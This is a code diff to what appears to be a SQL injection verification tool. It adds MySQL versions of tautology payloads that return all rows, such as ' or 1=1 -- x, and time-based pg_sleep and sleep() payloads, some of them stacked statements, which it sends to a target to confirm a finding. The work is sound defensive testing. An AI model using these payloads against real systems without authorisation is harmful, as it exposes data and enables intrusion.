@@ -14,17 +14,25 @@ from roadworthy.trial import Response
 from roadworthy.views.people.people import owner_of, users_table
 
 # Each ends the value where it stands (text, a number, within brackets) and leaves out the rest of the statement.
-_ALL_ROWS = ("' or 1=1 --", "1 or 1=1 --", "') or 1=1 --", "1) or 1=1 --")
+# MySQL takes two dashes for a comment only where a space follows.
+_ALL_ROWS = ("' or 1=1 -- x", "1 or 1=1 -- x", "') or 1=1 -- x", "1) or 1=1 -- x")
 _PAUSE_SECONDS = 1.5
 # As text, as a number or a name to sort by, and as a statement of its own.
-_PAUSES = (
-    "{mark}'||(select '' from pg_sleep({seconds}))||'",
-    "(select 1 from pg_sleep({seconds}))",
-    "{mark}'; select pg_sleep({seconds}) --",
-    "1; select pg_sleep({seconds}) --",
-    # Where no row is found, nothing that rows are sorted by is reckoned; how many may come is.
-    "1 limit (select 1 from pg_sleep({seconds}))",
-)
+_PAUSES = {
+    "postgres": (
+        "{mark}'||(select '' from pg_sleep({seconds}))||'",
+        "(select 1 from pg_sleep({seconds}))",
+        "{mark}'; select pg_sleep({seconds}) --",
+        "1; select pg_sleep({seconds}) --",
+        # Where no row is found, nothing that rows are sorted by is reckoned; how many may come is.
+        "1 limit (select 1 from pg_sleep({seconds}))",
+    ),
+    "mysql": (
+        "{mark}' or (select sleep({seconds})) = 1 or '",
+        "(select sleep({seconds}))",
+        "{mark}'; select sleep({seconds}) -- x",
+    ),
+}
 
 
 def prove(scene: Scene) -> Reproduction:
@@ -38,14 +46,15 @@ def prove(scene: Scene) -> Reproduction:
     seen = _leaked(scene, secret) if secret and secret not in usual.text else ""
     if seen:
         return experiment.proven(seen)
-    paused = _paused(scene, usual) if database.kind == "postgres" else ""
+    pauses = _PAUSES.get(database.kind, ())
+    paused = _paused(scene, usual, pauses)
     if paused:
         return experiment.proven(paused)
     if _is_text(scene):
         return experiment.untestable(
             "the value is part of the statement, but none of the values tried changed it"
         )
-    if database.kind != "postgres":
+    if not pauses:
         return experiment.untestable(f"{database.kind} takes no pause, and no value showed other rows")
     return experiment.cleared(
         "the values came out as values: no other rows, no pause, none of them in the statement"
@@ -92,9 +101,9 @@ def _leaked(scene: Scene, secret: str) -> str:
     return ""
 
 
-def _paused(scene: Scene, usual: Response) -> str:
+def _paused(scene: Scene, usual: Response, pauses: Sequence[str]) -> str:
     """What is told where a pause of the asked length came twice, and none when none was asked for."""
-    for value in _PAUSES:
+    for value in pauses:
         if not _waits(scene, value):
             continue
         at_once = scene.send(value.format(mark=scene.mark, seconds=0), "the same with no pause", "observe")
